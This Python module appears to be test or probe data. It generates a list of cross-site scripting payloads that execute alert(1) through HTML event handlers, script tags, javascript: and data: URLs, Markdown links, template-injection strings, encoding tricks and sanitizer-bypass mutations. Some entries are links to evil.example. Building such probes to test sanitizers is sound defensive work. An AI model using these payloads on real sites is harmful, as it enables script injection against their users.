"""Texts that run script where they are not made harmless: in HTML, in attributes, in addresses, in Markdown."""

import itertools

RUN = "alert(1)"
_WAYS = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<body onload={0}>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<iframe onload={0}></iframe>",
    "<object data=x onerror={0}>",
    "<style onload={0}></style>",
    "<script>{0}</script>",
    "<script src=data:,{0}></script>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<form><button formaction=javascript:{0}>x</button></form>",
    "<isindex action=javascript:{0} type=image>",
    "<a href=javascript:{0}>x</a>",
    "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content=0;url=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<table background=javascript:{0}><tr><td>x</table>",
    "<div style=width:expression({0})>x</div>",
    "<p onpointerrawupdate={0} style=position:fixed>x</p>",
)
_OUT_OF = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>")
_ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "javascript%3A{0}",
    " javascript:{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/{0}",
    "\\\\evil.example",
    "https://a.example/\"onmouseover='{0}'",
    "https:javascript:{0}",
    'kb:article/x" onclick={0} x="',
)
_MARKDOWN = ("[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", '[x]({0} "y")', "[x][y]\n\n[y]: {0}")
_OTHER = (
    '"onmouseover={0} x="',
    "' onfocus={0} autofocus x='",
    "`onclick={0}`",
    "${{{0}}}",
    "{{{{ {0} }}}}",
    "{{% {0} %}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script\n>{0}</script\n>",
    "<img src=x onerror\n=\n{0}>",
    "<img\x0csrc=x\x0conerror={0}>",
    "<img src=`x`onerror={0}>",
    "＜script＞{0}＜/script＞",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<svg><style><img src=x onerror={0}></style></svg>",
    "<math><mi><table><mglyph><style><img src=x onerror={0}>",
    "<template><img src=x onerror={0}></template>",
    "<a id=x tabindex=1 onfocus={0}></a>",
    "```html\n<script>{0}</script>\n```",
    "`<img src=x onerror={0}>`",
    "a | b\n--|--\n<img src=x onerror={0}> | c",
    "> <script>{0}</script>",
    "# <img src=x onerror={0}>",
    "<!-- --><script>{0}</script>",
    "<?xml-stylesheet href=javascript:{0}?>",
    "<![CDATA[<script>{0}</script>]]>",
)


def _all() -> list[str]:
    ways = [start + way for way, start in itertools.product(_WAYS, _OUT_OF[:5])]
    addresses = [form.format(address) for form, address in itertools.product(_MARKDOWN, _ADDRESSES)]
    return list(
        dict.fromkeys(each.format(RUN) for each in [*ways, *_OTHER, *(a.replace("{0}", RUN) for a in addresses)])
    )


PROBES = _all()
